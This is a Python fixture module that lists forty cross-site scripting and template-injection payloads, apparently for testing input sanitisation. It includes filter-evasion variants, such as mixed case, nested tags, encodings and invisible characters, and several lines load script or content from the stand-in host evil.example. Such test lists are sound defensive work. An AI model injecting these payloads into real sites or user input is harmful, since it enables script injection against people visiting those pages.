"""Forty texts that run, or break a page, where a text is taken for more than a text.

Each calls xss(), opens a dialog, writes 49ssti, or breaks the content security policy.
"""

import base64

ENCODED = base64.b64encode(b"<script>xss()</script>").decode()
PAYLOADS = [
    "<script>xss()</script>",
    "<ScRiPt >xss()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</script><script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<img/src=`x`/onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()>",
    "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<object data=\"data:text/html,<script>xss()</script>\"></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:xss()\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style=\"background:url(javascript:xss())\">",
    "<form action=//evil.example/><button autofocus>",
    "\" autofocus onfocus=xss() x=\"",
    "' autofocus onfocus=xss() x='",
    "\"><svg onload=xss()>",
    "'><svg onload=xss()>",
    "--><svg onload=xss()><!--",
    "]]><svg onload=xss()>",
    "</title></textarea></select><svg onload=xss()>",
    "&lt;svg onload=xss()&gt;&#60;svg onload=xss()&#62;",
    "%3Csvg%20onload%3Dxss()%3E",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "\u202e<svg\u200b onload=xss()>\ufeff<svg\x0conload=xss()>\u2028",
    "{{7*7}}ssti ${7*7}ssti #{7*7}ssti <%= 7*7 %>ssti {% load x %}",
    "javascript:xss()//",
    f"data:text/html;base64,{ENCODED}",
]  # fmt: skip
EVERYTHING = " ".join(PAYLOADS[:38])
"""All that works wherever it stands; unclosed tags at the end of one do not hide the next."""
FULL = [EVERYTHING, PAYLOADS[38] + EVERYTHING, PAYLOADS[39]]
"""The last two work only where a text begins."""
PARTS = [" ".join(PAYLOADS[first : first + 8]) for first in range(0, 40, 8)]
"""As long as a reason may be."""
SHORT = [each for each in PAYLOADS if len(each) <= 30]


def cut(text: str, room: int | None, start: int) -> str:
    """The text where there is room for it, else as many of the payloads from `start` on as fit."""
    if room is None or len(text) <= room:
        return text
    fitting = [each for each in PAYLOADS if len(each) <= room]
    chosen = fitting[start % len(fitting)] if fitting else ""
    for each in fitting[start % len(fitting) + 1 :] if fitting else ():
        if len(chosen) + 1 + len(each) > room:
            break
        chosen = f"{chosen} {each}"
    return chosen
